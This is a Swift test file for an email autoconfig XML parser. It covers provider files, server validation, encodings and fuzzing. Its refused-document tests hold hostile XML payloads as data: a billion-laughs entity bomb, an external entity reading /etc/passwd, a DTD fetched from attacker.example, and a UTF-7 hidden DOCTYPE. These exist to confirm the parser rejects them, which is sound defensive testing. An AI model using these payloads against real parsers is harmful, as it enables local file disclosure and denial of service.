import MailTLSCore
import TestSupport
import Testing

@testable import MailTLSSetup

@Suite struct AutoconfigParserTests {
    /// Shaped like the files ISPs publish and Thunderbird's ISPDB holds: several domains, IMAP, POP3 and SMTP
    /// (two of them), several authentication elements, and elements mailtls does not read.
    static let fullFile = """
        <?xml version="1.0" encoding="UTF-8"?>
        <!-- Published at https://autoconfig.example.jp/mail/config-v1.1.xml -->
        <clientConfig version="1.1">
          <emailProvider id="example.jp">
            <domain>example.jp</domain>
            <domain>mail.example.jp</domain>
            <domain>example.ne.jp</domain>
            <displayName>Example Internet &amp; Mail</displayName>
            <displayShortName>Example</displayShortName>
            <incomingServer type="imap">
              <hostname>imap.example.jp</hostname>
              <port>993</port>
              <socketType>SSL</socketType>
              <authentication>OAuth2</authentication>
              <authentication>password-cleartext</authentication>
              <username>%EMAILADDRESS%</username>
            </incomingServer>
            <incomingServer type="imap">
              <hostname>imap.example.jp</hostname>
              <port>143</port>
              <socketType>STARTTLS</socketType>
              <authentication>password-encrypted</authentication>
              <authentication>password-cleartext</authentication>
              <username>%EMAILADDRESS%</username>
            </incomingServer>
            <incomingServer type="pop3">
              <hostname>pop.example.jp</hostname>
              <port>995</port>
              <socketType>SSL</socketType>
              <authentication>password-cleartext</authentication>
              <username>%EMAILLOCALPART%</username>
              <pop3>
                <leaveMessagesOnServer>true</leaveMessagesOnServer>
                <downloadOnBiff>true</downloadOnBiff>
                <daysToLeaveMessagesOnServer>14</daysToLeaveMessagesOnServer>
              </pop3>
            </incomingServer>
            <incomingServer type="exchange">
              <hostname>outlook.example.jp</hostname>
              <port>443</port>
              <username>%EMAILADDRESS%</username>
              <socketType>SSL</socketType>
              <authentication>OAuth2</authentication>
              <owaURL>https://outlook.example.jp/owa/</owaURL>
            </incomingServer>
            <outgoingServer type="smtp">
              <hostname>smtp.example.jp</hostname>
              <port>465</port>
              <socketType>SSL</socketType>
              <authentication>password-cleartext</authentication>
              <username>%EMAILADDRESS%</username>
            </outgoingServer>
            <outgoingServer type="smtp">
              <hostname>smtp.example.jp</hostname>
              <port>587</port>
              <socketType>STARTTLS</socketType>
              <authentication>password-cleartext</authentication>
              <authentication>client-IP-address</authentication>
              <username>%EMAILADDRESS%</username>
              <addThisServer>true</addThisServer>
              <useGlobalPreferredServer>false</useGlobalPreferredServer>
            </outgoingServer>
            <documentation url="https://support.example.jp/mail/settings">
              <descr lang="en">Generic settings page</descr>
              <descr lang="ja">メール設定のご案内</descr>
            </documentation>
            <enable visiturl="https://www.example.jp/mail/enable-imap">
              <instruction>Enable IMAP in the member pages first.</instruction>
            </enable>
          </emailProvider>
          <oAuth2>
            <issuer>accounts.example.jp</issuer>
            <scope>https://mail.example.jp/</scope>
            <authURL>https://accounts.example.jp/o/oauth2/auth</authURL>
            <tokenURL>https://accounts.example.jp/o/oauth2/token</tokenURL>
          </oAuth2>
          <webMail>
            <loginPage url="https://webmail.example.jp/"/>
          </webMail>
        </clientConfig>
        """

    static func parsed(_ text: String) throws -> AutoconfigParser.Parsed {
        try AutoconfigParser.parse(Array(text.utf8)).get()
    }

    /// A file with one provider and the given server elements.
    static func file(servers: String, provider: String = #"<emailProvider id="example.com">"#) -> String {
        """
        <?xml version="1.0" encoding="UTF-8"?>
        <clientConfig version="1.1">
          \(provider)
            <domain>example.com</domain>
            \(servers)
          </emailProvider>
        </clientConfig>
        """
    }

    static func imapServer(hostname: String? = "imap.example.com", port: String? = "993",
                           socketType: String? = "SSL", authentication: [String] = ["password-cleartext"],
                           username: String? = "%EMAILADDRESS%", type: String? = "imap") -> String {
        var lines = [type.map { #"<incomingServer type="\#($0)">"# } ?? "<incomingServer>"]
        if let hostname { lines.append("<hostname>\(hostname)</hostname>") }
        if let port { lines.append("<port>\(port)</port>") }
        if let socketType { lines.append("<socketType>\(socketType)</socketType>") }
        lines += authentication.map { "<authentication>\($0)</authentication>" }
        if let username { lines.append("<username>\(username)</username>") }
        lines.append("</incomingServer>")
        return lines.joined(separator: "\n")
    }

    @Test func readsAFullProviderFile() throws {
        let result = try Self.parsed(Self.fullFile)
        let config = result.config
        #expect(result.skipped.isEmpty)
        #expect(config.id == "example.jp")
        #expect(config.domains == ["example.jp", "mail.example.jp", "example.ne.jp"])
        #expect(config.displayName == "Example Internet & Mail")
        #expect(config.displayShortName == "Example")
        #expect(config.incoming == [
            ServerSetting(kind: .imap, hostname: "imap.example.jp", port: 993, socketType: .implicitTLS,
                          authentication: [.oauth2, .passwordCleartext], username: "%EMAILADDRESS%"),
            ServerSetting(kind: .imap, hostname: "imap.example.jp", port: 143, socketType: .startTLS,
                          authentication: [.passwordEncrypted, .passwordCleartext], username: "%EMAILADDRESS%"),
            ServerSetting(kind: .pop3, hostname: "pop.example.jp", port: 995, socketType: .implicitTLS,
                          authentication: [.passwordCleartext], username: "%EMAILLOCALPART%"),
        ])
        #expect(config.outgoing == [
            ServerSetting(kind: .smtp, hostname: "smtp.example.jp", port: 465, socketType: .implicitTLS,
                          authentication: [.passwordCleartext], username: "%EMAILADDRESS%"),
            ServerSetting(kind: .smtp, hostname: "smtp.example.jp", port: 587, socketType: .startTLS,
                          authentication: [.passwordCleartext, .clientIPAddress], username: "%EMAILADDRESS%"),
        ])
    }

    @Test func placeholdersAreKeptAsWritten() throws {
        let text = Self.file(servers: Self.imapServer(hostname: "mail.%EMAILDOMAIN%", username: "%EMAILLOCALPART%"))
        let server = try #require(try Self.parsed(text).config.incoming.first)
        #expect(server.hostname == "mail.%EMAILDOMAIN%")
        #expect(server.username == "%EMAILLOCALPART%")
        #expect(server.resolvedUsername(for: "taro@example.com") == "taro")
    }

    @Test func valuesAreTrimmedAndCDATAIsRead() throws {
        let server = """
            <incomingServer type="imap">
              <hostname>
                imap.example.com
              </hostname>
              <port> 993 </port>
              <socketType><![CDATA[SSL]]></socketType>
              <authentication>password-cleartext</authentication>
              <username><![CDATA[%EMAILADDRESS%]]></username>
            </incomingServer>
            """
        let setting = try #require(try Self.parsed(Self.file(servers: server)).config.incoming.first)
        #expect(setting == ServerSetting(kind: .imap, hostname: "imap.example.com", port: 993, socketType: .implicitTLS))
    }

    @Test(arguments: [
        ("SSL", SecurityMode.implicitTLS), ("ssl", .implicitTLS), ("Ssl", .implicitTLS), ("STARTTLS", .startTLS), ("starttls", .startTLS),
        ("StartTLS", .startTLS), ("plain", .plaintext), ("PLAIN", .plaintext),
    ])
    func socketTypeIgnoresCase(written: String, expected: SecurityMode) throws {
        let parsed = try Self.parsed(Self.file(servers: Self.imapServer(socketType: written)))
        #expect(parsed.config.incoming.map(\.socketType) == [expected])
        #expect(parsed.skipped.isEmpty)
    }

    /// Each broken server is left out with a note naming the reason; a good server beside it is kept.
    @Test(arguments: [
        (imapServer(hostname: nil), "no hostname"),
        (imapServer(hostname: ""), "no hostname"),
        (imapServer(hostname: "bad host.example.com"), "invalid hostname"),
        (imapServer(hostname: "imap..example.com"), "invalid hostname"),
        (imapServer(hostname: "-imap.example.com"), "invalid hostname"),
        (imapServer(hostname: "imap.example.com/path"), "invalid hostname"),
        (imapServer(port: nil), "no port"),
        (imapServer(port: "abc"), "invalid port"),
        (imapServer(port: "0"), "invalid port"),
        (imapServer(port: "65536"), "invalid port"),
        (imapServer(port: "-993"), "invalid port"),
        (imapServer(port: "９９３"), "invalid port"),
        (imapServer(socketType: nil), "no socketType"),
        (imapServer(socketType: "TLS"), "invalid socketType"),
        (imapServer(authentication: []), "no authentication"),
        (imapServer(authentication: ["kerberos-magic"]), "no authentication"),
        (imapServer(type: nil), "no type"),
        (imapServer(type: "smtp"), "does not belong"),
    ])
    func brokenServersAreSkippedAndReported(server: String, reason: String) throws {
        let good = Self.imapServer(hostname: "good.example.com")
        let parsed = try Self.parsed(Self.file(servers: server + "\n" + good))
        #expect(parsed.config.incoming.map(\.hostname) == ["good.example.com"])
        #expect(parsed.skipped.count == 1)
        #expect(parsed.skipped.first?.contains(reason) == true, "\(parsed.skipped)")
        #expect(parsed.skipped.first?.contains("incomingServer #1") == true, "\(parsed.skipped)")
    }

    @Test(arguments: ["exchange", "jmap", "ews", "activesync", "caldav"])
    func unknownServerTypesAreSkippedSilently(type: String) throws {
        let parsed = try Self.parsed(Self.file(servers: Self.imapServer(type: type) + Self.imapServer()))
        #expect(parsed.config.incoming.count == 1)
        #expect(parsed.skipped.isEmpty)
    }

    @Test func acceptsHostnamesOfEveryKind() throws {
        let names = ["imap.example.com", "IMAP.Example.COM", "mail_1.example.com", "imap.example.com.",
                     "192.0.2.10", "[2001:db8::1]", "2001:db8::1", "localhost"]
        let servers = names.map { Self.imapServer(hostname: $0) }.joined(separator: "\n")
        let parsed = try Self.parsed(Self.file(servers: servers))
        #expect(parsed.config.incoming.map(\.hostname) == names)
        #expect(parsed.skipped.isEmpty, "\(parsed.skipped)")
    }

    @Test func unknownAuthenticationValuesAreIgnored() throws {
        let server = Self.imapServer(authentication: ["smoke-signals", "password-encrypted", "PASSWORD-CLEARTEXT",
                                                      "password-encrypted"])
        let parsed = try Self.parsed(Self.file(servers: server))
        #expect(parsed.config.incoming.first?.authentication == [.passwordEncrypted, .passwordCleartext])
        #expect(parsed.skipped.isEmpty)
    }

    @Test func missingUsernameIsEmpty() throws {
        let parsed = try Self.parsed(Self.file(servers: Self.imapServer(username: nil)))
        #expect(parsed.config.incoming.first?.username == "")
    }

    @Test func providerWithoutServersIsStillAConfig() throws {
        let parsed = try Self.parsed(Self.file(servers: ""))
        #expect(parsed.config == ProviderConfig(id: "example.com", domains: ["example.com"]))
    }

    @Test func idFallsBackToTheFirstDomain() throws {
        let parsed = try Self.parsed(Self.file(servers: Self.imapServer(), provider: "<emailProvider>"))
        #expect(parsed.config.id == "example.com")
    }

    @Test func onlyTheFirstProviderIsRead() throws {
        let text = """
            <clientConfig version="1.1">
              <emailProvider id="first.example"><domain>first.example</domain>\(Self.imapServer())</emailProvider>
              <emailProvider id="second.example">
                <domain>second.example</domain>\(Self.imapServer(hostname: "second.example"))
              </emailProvider>
            </clientConfig>
            """
        let parsed = try Self.parsed(text)
        #expect(parsed.config.id == "first.example" && parsed.config.domains == ["first.example"])
        #expect(parsed.config.incoming.map(\.hostname) == ["imap.example.com"])
    }

    @Test func serversOutsideTheProviderOrNestedDeeperAreIgnored() throws {
        let text = """
            <clientConfig version="1.1">
              \(Self.imapServer(hostname: "root-level.example"))
              <emailProvider id="example.com">
                <domain>example.com</domain>
                <documentation>
                  \(Self.imapServer(hostname: "in-docs.example"))<domain>evil.example</domain>
                </documentation>
                \(Self.imapServer())
              </emailProvider>
            </clientConfig>
            """
        let parsed = try Self.parsed(text)
        #expect(parsed.config.incoming.map(\.hostname) == ["imap.example.com"])
        #expect(parsed.config.domains == ["example.com"])
    }

    // MARK: - Refused documents

    static let billionLaughs = """
        <?xml version="1.0"?>
        <!DOCTYPE clientConfig [
          <!ENTITY lol "lol">
          <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
          <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
        ]>
        <clientConfig version="1.1"><emailProvider id="&lol3;"><domain>a.example</domain></emailProvider></clientConfig>
        """

    static let externalEntity = """
        <?xml version="1.0"?>
        <!DOCTYPE clientConfig [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
        <clientConfig version="1.1">
          <emailProvider id="x"><displayName>&secret;</displayName></emailProvider>
        </clientConfig>
        """

    @Test(arguments: [
        (billionLaughs, AutoconfigParser.Problem.documentTypeDeclaration),
        (externalEntity, .documentTypeDeclaration),
        (#"<!doctype clientConfig SYSTEM "http://attacker.example/x.dtd"><clientConfig/>"#, .documentTypeDeclaration),
        ("<!DocType clientConfig><clientConfig/>", .documentTypeDeclaration),
        ("<clientConfig><emailProvider id=\"x\"></clientConfig>", nil),
        ("<clientConfig><emailProvider id=\"x\">", nil),
        ("<clientConfig>", nil),
        ("", nil),
        ("not xml at all", nil),
        ("<clientConfig a='1' a='2'/>", nil),
        ("<clientConfig>&undefined;</clientConfig>", nil),
        ("<clientConfig/><clientConfig/>", nil),
        (#"<html><body>404 Not Found</body></html>"#, .notClientConfig(root: "html")),
        ("<clientConfig version=\"1.1\"><webMail/></clientConfig>", .missingEmailProvider),
        ("<clientConfig><emailProvider><displayName>x</displayName></emailProvider></clientConfig>",
         .missingProviderID),
        // Processing instructions without data crashed Foundation's XMLParser (found by scripts/fuzz).
        ("<clientConfig><?foo?></clientConfig>", .processingInstruction),
        ("<?xml version=\"1.0\"?><clientConfig><?xml?></clientConfig>", .processingInstruction),
        ("<?xml-stylesheet href=\"x\"?><clientConfig/>", .processingInstruction),
        ("<?xml version=\"1.0\" <?x?>?><clientConfig/>", .processingInstruction),
    ] as [(String, AutoconfigParser.Problem?)])
    func refusedDocuments(text: String, expected: AutoconfigParser.Problem?) {
        let result = AutoconfigParser.parse(Array(text.utf8))
        guard case .failure(let problem) = result else {
            Issue.record("accepted: \(result)")
            return
        }
        if let expected {
            #expect(problem == expected)
        } else {
            guard case .malformedXML = problem else {
                Issue.record("expected malformedXML, got \(problem)")
                return
            }
        }
        #expect(!problem.description.isEmpty)
    }

    @Test func utf16IsRefusedBecauseItCouldHideADoctype() {
        let text = "<?xml version=\"1.0\" encoding=\"UTF-16\"?>" + Self.billionLaughs
        var bytes: [UInt8] = [0xFF, 0xFE]
        for unit in text.utf16 { bytes += [UInt8(unit & 0xFF), UInt8(unit >> 8)] }
        #expect(AutoconfigParser.parse(bytes) == .failure(.notUTF8))
    }

    @Test(arguments: [
        [0x3C, 0x63, 0xFF, 0x3E] as [UInt8],  // a byte UTF-8 never uses
        Array("<clientConfig><emailProvider id=\"x\"><".utf8) + [0xDF]
            + Array("tokenURL/></emailProvider></clientConfig>".utf8),  // the name that crashed XMLParser
        Array("<clientConfig><domain>".utf8) + [0xE3, 0x81] + Array("</domain></clientConfig>".utf8),  // cut short
    ])
    func invalidUTF8IsRefused(bytes: [UInt8]) {
        #expect(AutoconfigParser.parse(bytes) == .failure(.notUTF8))
    }

    /// UTF-7 can write `<!DOCTYPE` as `<+ACE-DOCTYPE`, which a byte check would not see.
    @Test(arguments: [("UTF-7", "UTF-7"), ("utf-16", "utf-16"), ("IBM037", "IBM037"), ("Shift_JIS", "Shift_JIS")])
    func encodingsOtherThanUTF8AreRefused(declared: String, reported: String) {
        let text = "<?xml version=\"1.0\" encoding='\(declared)'?>\n<+ACE-DOCTYPE clientConfig><clientConfig/>"
        #expect(AutoconfigParser.parse(Array(text.utf8)) == .failure(.unsupportedEncoding(declared: reported)))
    }

    @Test(arguments: ["UTF-8", "utf-8", "US-ASCII", "ISO-8859-1"])
    func asciiCompatibleEncodingsAreRead(declared: String) throws {
        let text = Self.file(servers: Self.imapServer())
            .replacingOccurrences(of: #"encoding="UTF-8""#, with: #"encoding = "\#(declared)""#)
        #expect(text.contains(declared))
        let bom: [UInt8] = [0xEF, 0xBB, 0xBF]
        #expect(try AutoconfigParser.parse(bom + Array(text.utf8)).get().config.incoming.count == 1)
    }

    @Test func sizeLimitIsExact() throws {
        let base = Array(Self.file(servers: Self.imapServer()).utf8)
        let comment = { (length: Int) in
            Array("<!--".utf8) + Array(repeating: UInt8(ascii: "x"), count: length) + Array("-->".utf8)
        }
        let atLimit = base + comment(AutoconfigParser.maximumBytes - base.count - 7)
        #expect(atLimit.count == AutoconfigParser.maximumBytes)
        #expect(try AutoconfigParser.parse(atLimit).get().config.incoming.count == 1)
        let overLimit = atLimit + [UInt8(ascii: "\n")]
        #expect(AutoconfigParser.parse(overLimit) == .failure(.tooLarge(byteCount: AutoconfigParser.maximumBytes + 1)))
    }

    // MARK: - Fuzzing

    /// Random bytes and mutations of a real file: always an answer, never a crash; every kept server is valid.
    @Test func survivesGarbageAndMutations() {
        var generator = SeededGenerator(state: 0x6175_746F_636F_6E66)
        let seed = Array(Self.fullFile.utf8)
        let alphabet = Array("<>/=\"'&;![]-?%: \nabcdeimnoprstxyzCDATAESLT0123456789".utf8)
        var accepted = 0
        for iteration in 0..<1500 {
            var bytes: [UInt8]
            switch iteration % 3 {
            case 0:
                bytes = (0..<Int.random(in: 0...512, using: &generator)).map { _ in
                    UInt8.random(in: 0...255, using: &generator)
                }
            case 1:
                bytes = (0..<Int.random(in: 0...512, using: &generator)).map { _ in
                    alphabet.randomElement(using: &generator)!
                }
            default:
                bytes = seed
                for _ in 0..<Int.random(in: 1...6, using: &generator) {
                    let position = Int.random(in: 0..<bytes.count, using: &generator)
                    switch Int.random(in: 0..<3, using: &generator) {
                    case 0: bytes[position] = alphabet.randomElement(using: &generator)!
                    case 1: bytes.remove(at: position)
                    default: bytes.insert(UInt8.random(in: 0...255, using: &generator), at: position)
                    }
                }
            }
            if case .success(let parsed) = AutoconfigParser.parse(bytes) {
                accepted += 1
                for server in parsed.config.incoming + parsed.config.outgoing {
                    #expect((1...65_535).contains(server.port))
                    #expect(!server.hostname.isEmpty && !server.authentication.isEmpty)
                }
                #expect(parsed.config.incoming.allSatisfy { $0.kind != .smtp })
                #expect(parsed.config.outgoing.allSatisfy { $0.kind == .smtp })
            }
        }
        #expect(accepted > 0, "some light mutations of a real file should still parse")
    }
}
